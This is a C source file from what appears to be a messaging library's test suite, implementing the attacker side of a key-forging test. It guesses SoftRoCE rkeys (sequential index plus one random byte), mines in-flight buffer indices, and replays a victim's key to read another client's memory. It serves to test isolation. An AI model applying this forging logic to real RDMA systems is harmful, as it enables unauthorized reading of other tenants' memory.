/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The key-forging test's attacker: a client of the same server as the
 * victim, using the public API only.
 *
 * What it is given: a registration of its own (KF_RPC_REGISTER: the server
 * gives every client one), fresh keys whenever it asks (KF_RPC_PROBE), the
 * addresses and lengths of the victim's registration and of the server's
 * stream buffer (no secret: addresses travel in clear in every packed key),
 * and, for attack (c) only, the key the server packed for the victim.
 *
 * What it learns: the packed key's layout (docs/protocol.md), checked by
 * re-encoding its own key byte for byte; and from each key it is given,
 * the transport key. On SoftRoCE an rkey is (MR index << 8 | one random
 * byte), indices handed out in sequence per device; so the index of any
 * key tells it where the others lie, and the byte is 8 bits to guess.
 *
 * The attacks, each bounded by RMX_TEST_FORGE_ATTEMPTS attempts and
 * RMX_TEST_FORGE_SECONDS seconds:
 *  (a) the victim's registration: indices after its own key's (the victim
 *      registered after it), then before, every key byte of each;
 *  (b) the victim's in-flight messages (the stream buffer, registered anew
 *      for each message): probe keys on a connection until an index is
 *      skipped (someone registered memory in between: most likely a
 *      message's source), then guess the freshest skipped index with a key
 *      byte not tried on it yet, on every connection for B_LIFE_MS; with
 *      nothing fresh for B_WAIT_MS (or keys that are not sequential at
 *      all, as on TCP), guess just below the last probe's index;
 *  (c) the victim's own key, replayed on the attacker's connection.
 * A guess is one rmx_read of 4 KiB at the region's start; when accepted,
 * the whole region is read too. A wrong guess may end the connection (on
 * verbs the device does); the attacker then reconnects and goes on.
 *
 * Control lines (stdout): "registered", then after "go ..." on stdin one
 * "result X attempts hits victim_bytes other_bytes cuts first_hit ms learned"
 * per attack and "stream SENT INFLIGHT" (the server's messages to the victim
 * during (b)).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <uv.h>

#include "key_forge.h"

#define PEEK 4096

typedef struct res {
  uint64_t attempts, hits, victim, other, cuts, first_hit, ms, learned;
  uint64_t start, cuts0;
} res_t;

static struct {
  rmx_ctx_t *ctx;
  const char *uri;
  uint8_t tp;
  rmx_conn_t *c;
  int up, connect_done, connect_status, closes;
  int rpc_done, rpc_status;
  uint8_t reply[256];
  size_t reply_len;
  int op_done, op_status;
  uint8_t *buf; /* KF_MSG, zeroed before each read */
  rmx_mem_t *bufm;
  uint64_t cuts, gen, budget, ms_budget, rng;
  int go, eof;
  char goline[1024];
  uint8_t own_blob[RMX_RKEY_MAX];
  size_t own_len;
  kf_key_t own;
} A;

static _Noreturn void die(const char *what, int rc)
{
  fprintf(stderr, "key-forge attacker: %s%s%s\n", what, rc ? ": " : "",
          rc ? rmx_strerror(rc) : "");
  exit(2);
}

static uint64_t rnd(void)
{
  A.rng ^= A.rng << 13;
  A.rng ^= A.rng >> 7;
  A.rng ^= A.rng << 17;
  return A.rng;
}

/* ---- the connection, made again whenever the target cut it ---- */

static void on_disconnect(rmx_conn_t *c, int status, void *arg)
{
  (void)c;
  (void)status;
  (void)arg;
  A.up = 0;
}

static void on_connected(rmx_conn_t *c, int status, void *arg)
{
  (void)arg;
  rmx_conn_cbs_t cbs = {.on_disconnect = on_disconnect};
  rmx_conn_set_cbs(c, &cbs, NULL);
  A.connect_status = status;
  A.connect_done = 1;
}

static void on_closed(rmx_conn_t *c, void *arg)
{
  (void)c;
  (void)arg;
  A.closes--;
}

static void drop_conn(void)
{
  if (!A.c)
    return;
  A.closes++;
  rmx_conn_close(A.c, on_closed, NULL);
  A.c = NULL;
  A.up = 0;
}

/* Connected, reconnecting if the last one went down: 0, or -1 after ten
 * failed connects in a row. */
static int ensure_up(void)
{
  if (A.c && A.up)
    return 0;
  if (A.c)
    A.cuts++;
  for (int tries = 0; tries < 10; tries++) {
    drop_conn();
    A.connect_done = 0;
    int rc = rmx_connect(A.ctx, A.uri, on_connected, NULL, &A.c);
    if (rc) {
      A.c = NULL;
      fprintf(stderr, "key-forge attacker: connect: %s\n", rmx_strerror(rc));
      continue;
    }
    kf_run_until(A.ctx, &A.connect_done);
    if (A.connect_status == 0) {
      A.up = 1;
      A.gen++;
      return 0;
    }
    fprintf(stderr, "key-forge attacker: connect: %s\n", rmx_strerror(A.connect_status));
  }
  drop_conn();
  return -1;
}

static void on_reply(rmx_conn_t *c, int status, const void *data, size_t len, void *arg)
{
  (void)c;
  (void)arg;
  A.rpc_status = status;
  A.reply_len = len < sizeof(A.reply) ? len : sizeof(A.reply);
  if (status == 0 && len)
    memcpy(A.reply, data, A.reply_len);
  A.rpc_done = 1;
}

static int rpc(uint32_t id, const void *req, size_t len)
{
  A.rpc_done = 0;
  int rc = rmx_rpc_call(A.c, id, req, len, 30000, on_reply, NULL, NULL);
  if (rc == 0) {
    kf_run_until(A.ctx, &A.rpc_done);
    rc = A.rpc_status;
  }
  if (rc)
    A.up = 0; /* whatever it was, the next step starts on a new connection */
  return rc;
}

static void on_op(rmx_conn_t *c, int status, void *arg)
{
  (void)c;
  (void)arg;
  A.op_status = status;
  A.op_done = 1;
}

static int read_into_buf(rmx_rkey_t *rk, size_t n)
{
  memset(A.buf, 0, n);
  rmx_iov_t iov = {A.buf, n, A.bufm};
  A.op_done = 0;
  int rc = rmx_read(A.c, &iov, 1, rk, 0, on_op, NULL);
  if (rc)
    return rc;
  kf_run_until(A.ctx, &A.op_done);
  return A.op_status;
}

/* ---- one guess ---- */

static int over(const res_t *r)
{
  return r->attempts >= A.budget || kf_now_ms() - r->start >= A.ms_budget;
}

/* Read with the blob on the current connection: 1 accepted, 0 refused,
 * -1 no connection could be made. Counts what the accepted reads got. */
static int try_blob(res_t *r, const uint8_t *blob, size_t len, size_t full)
{
  if (ensure_up())
    return -1;
  rmx_rkey_t *rk;
  int rc = rmx_rkey_unpack(A.c, blob, len, &rk);
  if (rc)
    die("rmx_rkey_unpack refuses a forged key (its layout is wrong)", rc);
  r->attempts++;
  rc = read_into_buf(rk, PEEK);
  if (rc == 0) {
    size_t got = PEEK, v = kf_count(A.buf, PEEK, KF_TAG_VICTIM);
    if (full > PEEK && read_into_buf(rk, full) == 0) {
      got = full;
      v = kf_count(A.buf, full, KF_TAG_VICTIM);
    }
    r->hits++;
    r->victim += v;
    r->other += got - v;
    if (!r->first_hit)
      r->first_hit = r->attempts;
  } else if (A.up && rpc(KF_RPC_PING, NULL, 0) != 0) {
    A.up = 0; /* refused, and the connection with it */
  }
  rmx_rkey_release(rk);
  return rc == 0;
}

static int try_key(res_t *r, uint64_t addr, uint64_t len, uint64_t key, size_t full)
{
  kf_key_t k = {.rights = A.own.rights, .addr = addr, .len = len, .tp = A.tp, .key = key};
  uint8_t blob[RMX_RKEY_MAX];
  size_t n = kf_key_encode(&k, blob);
  return try_blob(r, blob, n, full);
}

static void begin(res_t *r)
{
  memset(r, 0, sizeof(*r));
  r->start = kf_now_ms();
  r->cuts0 = A.cuts;
}

static void report(char name, res_t *r)
{
  r->ms = kf_now_ms() - r->start;
  r->cuts = A.cuts - r->cuts0;
  kf_say("result %c %llu %llu %llu %llu %llu %llu %llu %llu", name,
         (unsigned long long)r->attempts, (unsigned long long)r->hits,
         (unsigned long long)r->victim, (unsigned long long)r->other,
         (unsigned long long)r->cuts, (unsigned long long)r->first_hit,
         (unsigned long long)r->ms, (unsigned long long)r->learned);
}

/* ---- what it is given ---- */

static void fetch_key(uint32_t id, const char *req, kf_key_t *k, uint8_t *blob, size_t *len)
{
  int rc;
  for (int tries = 0; tries < 3; tries++) {
    if (ensure_up())
      die("no connection to the server", 0);
    if ((rc = rpc(id, req, req ? strlen(req) : 0)) == 0)
      break;
  }
  if (rc)
    die("a key from the server", rc);
  if (blob) {
    memcpy(blob, A.reply, A.reply_len);
    *len = A.reply_len;
  }
  rc = kf_key_decode(A.reply, A.reply_len, A.tp, k);
  if (rc == -2)
    die("a key the server packed fails our CRC-32C: the layout is not docs/protocol.md's", 0);
  if (rc)
    die("a key the server packed does not decode as docs/protocol.md says", 0);
}

/* The transport key's index and, below it, the byte to guess. */
static uint64_t index_of(uint64_t key) { return key >> 8; }

static int probe(uint64_t *idx)
{
  kf_key_t k;
  if (ensure_up() || rpc(KF_RPC_PROBE, NULL, 0) || kf_key_decode(A.reply, A.reply_len, A.tp, &k))
    return -1;
  *idx = index_of(k.key);
  return 0;
}

/* ---- the attacks ---- */

/* (a): the indices after its own key's, then those before it, as many on
 * each side as the budget can try (16 at least), every key byte of each. */
static void attack_a(res_t *r, uint64_t vaddr, uint64_t vlen)
{
  uint64_t base = index_of(A.own.key), span = (A.budget + 511) / 512;
  if (span < 16)
    span = 16;
  for (uint64_t s = 0; s < 2 * span; s++) {
    uint64_t idx = s < span ? base + 1 + s : base - 1 - (s - span);
    for (unsigned b = 0; b < 256; b++) {
      if (over(r))
        return;
      int hit = try_key(r, vaddr, vlen, idx << 8 | b, vlen);
      if (hit < 0)
        die("no connection to the server", 0);
      if (hit)
        return; /* the key is known now: guessing more would add nothing */
    }
  }
}

/* (b): a fresh index is guessed for B_LIFE_MS after it was seen skipped
 * (about a message's lifetime in the VM), each key byte at most once. */
#define B_LIFE_MS 250
#define B_CANDS 16
#define B_WAIT_MS 200 /* with no fresh index for this long, guess below the last probe */

typedef struct cand {
  uint64_t idx, seen;
  uint8_t tried[32];
  unsigned ntried;
} cand_t;

static void attack_b(res_t *r, uint64_t saddr, uint64_t slen)
{
  cand_t cands[B_CANDS] = {{0}};
  unsigned next_slot = 0;
  uint64_t last = 0, gen = 0, since = kf_now_ms();
  int have_last = 0, sequential = 1;
  while (!over(r)) {
    uint64_t f, now;
    if (ensure_up())
      die("no connection to the server", 0);
    if (gen != A.gen) { /* a new connection: its own setup may have taken indices */
      gen = A.gen;
      have_last = 0;
    }
    if (probe(&f))
      continue;
    now = kf_now_ms();
    if (have_last) {
      uint64_t d = f - last;
      if (d > 1 && d <= 64) { /* last + 1 .. f - 1: registered by others since */
        for (uint64_t i = last + 1; i < f; i++) {
          cand_t *c = &cands[next_slot++ % B_CANDS];
          memset(c, 0, sizeof(*c));
          c->idx = i;
          c->seen = now;
        }
      } else if (d != 1) {
        sequential = 0; /* keys tell nothing about each other here */
      }
    }
    last = f;
    have_last = 1;
    cand_t *best = NULL;
    for (int i = 0; i < B_CANDS; i++) {
      cand_t *c = &cands[i];
      int fresh = c->seen && now - c->seen < B_LIFE_MS && c->ntried < 256;
      if (fresh && (!best || c->seen > best->seen))
        best = c;
    }
    uint64_t idx;
    unsigned b = (unsigned)(rnd() & 0xff);
    if (best) {
      while (best->tried[b / 8] & (1u << (b % 8)))
        b = (b + 1) & 0xff;
      best->tried[b / 8] |= (uint8_t)(1u << (b % 8));
      best->ntried++;
      idx = best->idx;
      r->learned++;
    } else if (!sequential || now - since >= B_WAIT_MS) {
      idx = f - 1 - rnd() % 4;
    } else {
      continue; /* probe again: wait for someone to register memory */
    }
    since = now;
    if (try_key(r, saddr, slen, idx << 8 | b, slen) < 0)
      die("no connection to the server", 0);
  }
}

static void attack_c(res_t *r, const uint8_t *vblob, size_t vlen_blob, uint64_t vlen)
{
  if (try_blob(r, vblob, vlen_blob, vlen) < 0)
    die("no connection to the server", 0);
}

static int stats(kf_stats_t *st)
{
  if (ensure_up() || rpc(KF_RPC_STATS, NULL, 0) || A.reply_len != sizeof(*st))
    return -1;
  memcpy(st, A.reply, sizeof(*st));
  return 0;
}

/* ---- main ---- */

static void on_line(const char *line)
{
  if (strncmp(line, "go ", 3) == 0 && !A.go) {
    snprintf(A.goline, sizeof(A.goline), "%s", line);
    A.go = 1;
  }
}

/* Its own key, decoded and encoded again by the test's code, must be the
 * very bytes rmx packed, and read its own region: else every forged key
 * below would be wrong for reasons of ours. */
static void controls(void)
{
  uint8_t again[RMX_RKEY_MAX];
  size_t n = kf_key_encode(&A.own, again);
  if (n != A.own_len || memcmp(again, A.own_blob, n) != 0)
    die("re-encoding the attacker's own key does not give rmx_mem_pack's bytes", 0);
  for (int pass = 0; pass < 2; pass++) {
    rmx_rkey_t *rk;
    int rc = rmx_rkey_unpack(A.c, pass ? again : A.own_blob, n, &rk);
    if (rc)
      die("unpack its own key", rc);
    rc = read_into_buf(rk, KF_REGION);
    rmx_rkey_release(rk);
    if (rc)
      die("read its own region", rc);
    if (kf_count(A.buf, KF_REGION, KF_TAG_ATTACKER) != KF_REGION)
      die("its own region does not hold its tag", 0);
  }
}

int kf_attacker_main(const char *uri, const char *scheme)
{
  A.uri = uri;
  A.tp = strcmp(scheme, "rdma") == 0 ? KF_WIRE_RDMA : KF_WIRE_TCP;
  A.budget = kf_env_u64("RMX_TEST_FORGE_ATTEMPTS", 2048);
  A.ms_budget = kf_env_u64("RMX_TEST_FORGE_SECONDS", 20) * 1000;
  A.rng = kf_env_u64("RMX_TEST_FORGE_SEED", 1) * 0x9e3779b97f4a7c15ull | 1;
  /* on verbs every refused guess logs an error line here (the target's
   * side limits its own): RMX_TEST_FORGE_LOG=1 keeps them */
  if (!getenv("RMX_TEST_FORGE_LOG"))
    setenv("RMX_LOG", "none", 1);
  A.ctx = kf_ctx();
  A.buf = kf_map(KF_MSG);
  if (ensure_up())
    die("no connection to the server", 0);
  int rc = rmx_mem_reg(A.ctx, A.buf, KF_MSG, RMX_MEM_LOCAL, &A.bufm);
  if (rc)
    die("register its buffer", rc);
  fetch_key(KF_RPC_REGISTER, "attacker", &A.own, A.own_blob, &A.own_len);
  controls();
  kf_say("registered");

  kf_stdin_watch(A.ctx, on_line, &A.eof);
  while (!A.go && !A.eof)
    uv_run(rmx_ctx_loop(A.ctx), UV_RUN_ONCE);
  kf_stdin_stop();
  unsigned long long vaddr, vlen, saddr, slen;
  char khex[2 * RMX_RKEY_MAX + 1];
  uint8_t vblob[RMX_RKEY_MAX];
  size_t vblob_len = 0;
  if (!A.go || sscanf(A.goline, "go %llu %llu %llu %llu %128s", &vaddr, &vlen, &saddr, &slen,
                      khex) != 5 ||
      (vblob_len = kf_unhex(khex, vblob, sizeof(vblob))) == 0)
    die("no usable \"go\" line on stdin", 0);
  kf_key_t vk;
  if (kf_key_decode(vblob, vblob_len, A.tp, &vk) || vk.addr != vaddr || vk.len != vlen)
    die("the victim's key does not name the victim's region", 0);

  res_t ra, rb, rc_;
  begin(&ra);
  attack_a(&ra, vaddr, vlen);
  report('a', &ra);

  kf_stats_t st0, st1;
  if (stats(&st0))
    die("the server's stream counters", 0);
  begin(&rb);
  attack_b(&rb, saddr, slen);
  report('b', &rb);
  if (stats(&st1))
    die("the server's stream counters", 0);
  kf_say("stream %llu %llu", (unsigned long long)(st1.sent - st0.sent),
         (unsigned long long)st1.inflight);

  begin(&rc_);
  attack_c(&rc_, vblob, vblob_len, vlen);
  report('c', &rc_);

  drop_conn();
  while (A.closes)
    uv_run(rmx_ctx_loop(A.ctx), UV_RUN_ONCE);
  rmx_mem_dereg(A.bufm);
  rc = rmx_ctx_destroy(A.ctx);
  kf_unmap(A.buf, KF_MSG);
  return rc ? 2 : 0;
}
